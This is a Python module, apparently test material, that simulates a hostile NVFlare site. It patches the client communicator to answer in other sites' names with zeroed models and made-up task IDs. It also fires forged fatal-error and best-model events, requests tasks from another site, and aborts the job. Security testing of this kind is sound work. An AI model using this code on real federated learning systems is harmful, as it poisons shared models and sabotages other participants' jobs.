"""A site whose own Python is hostile: its programs load this before NVFlare sends anything.

After training, and before its true answer, it answers with zeros in the others' names, one of them
no site of the job, and to a task that it made up; raises events at the server and at another site;
asks another site for a task; and ends the job by a command.
"""

from __future__ import annotations

import time
import uuid
from typing import Any

PATCHED = "nvflare.private.fed.client.communicator"
_OTHERS = ("east", "south", "west")


def patch(module: Any) -> None:
    """Change what the site sends after its training task."""
    true_submit, true_context = module.Communicator.submit_update, module.gen_new_peer_ctx
    names = ["project_name", "token", "ssid", "fl_ctx", "client_name", "shareable"]
    names += ["execute_task_name", "timeout"]

    def submit_update(self: Any, *values: Any, **named: Any) -> Any:
        given = {
            **dict(zip([*names, "execute_task_name", "timeout"], values, strict=False)),
            **named,
        }
        if given["execute_task_name"] == "train":
            attack(self.cell, given["fl_ctx"].get_job_id())
            for name in (*_OTHERS, given["client_name"]):
                module.gen_new_peer_ctx = calling_itself(name, true_context)
                forged = {**given, "shareable": zeros(given["shareable"])}
                print(f"ANSWERED AS {name}: {true_submit(self, **forged)}", flush=True)
            module.gen_new_peer_ctx = true_context
        return true_submit(self, **given)

    module.Communicator.submit_update = submit_update


def calling_itself(name: str, true_context: Any) -> Any:
    """NVFlare's function that says who one is, with another name."""

    def context(fl_ctx: Any, *values: Any, **named: Any) -> Any:
        from nvflare.apis.fl_constant import ReservedKey

        peer = true_context(fl_ctx, *values, **named)
        peer.props[ReservedKey.IDENTITY_NAME]["value"] = name
        return peer

    return context


def zeros(answer: Any) -> Any:
    """The same answer with a model of zeros, to a task that nobody gave out."""
    from nvflare.apis.dxo import from_shareable
    from nvflare.apis.fl_constant import FLContextKey
    from nvflare.apis.shareable import ReservedHeaderKey, Shareable

    headers = answer[ReservedHeaderKey.HEADERS]
    copy = Shareable(dict(answer))
    copy[ReservedHeaderKey.HEADERS] = dict(headers)
    update = from_shareable(answer)
    update.data = {key: value * 0 for key, value in update.data.items()}
    update.update_shareable(copy)
    jar = {
        **(headers.get(ReservedHeaderKey.COOKIE_JAR) or {}),
        FLContextKey.TASK_ID: f"{uuid.uuid4()}",
    }
    copy[ReservedHeaderKey.HEADERS][ReservedHeaderKey.COOKIE_JAR] = jar
    return copy


def attack(cell: Any, job: str) -> None:
    """What any process with the site's certificate can send; it waits for no answer."""
    from nvflare.apis.fl_constant import FedEventHeader, ReservedKey
    from nvflare.apis.shareable import ReservedHeaderKey, Shareable
    from nvflare.private.defs import new_cell_message

    def send(channel: str, topic: str, target: str, **headers: Any) -> None:
        content = Shareable()
        content.set_peer_props({ReservedKey.IDENTITY_NAME: "north"})
        for name, value in headers.items():
            content.set_header(name, value)
        message = new_cell_message({}, content)
        cell.fire_and_forget(channel=channel, topic=topic, targets=target, message=message)

    for event in ("_fatal_system_error", "_global_best_model_available"):
        about = {
            FedEventHeader.EVENT_TYPE: event,
            FedEventHeader.ORIGIN: "north",
            FedEventHeader.TIMESTAMP: time.time(),
        }
        for target in (f"server.{job}", f"south.{job}"):
            send("aux_communication", "fed.event", target, **about)
    task = {ReservedHeaderKey.TASK_NAME: "train"}
    send("aux_communication", "__do_task__", f"south.{job}", **task)
    send("server_command", "abort", f"server.{job}")
    send("client_command", "abort", f"south.{job}")
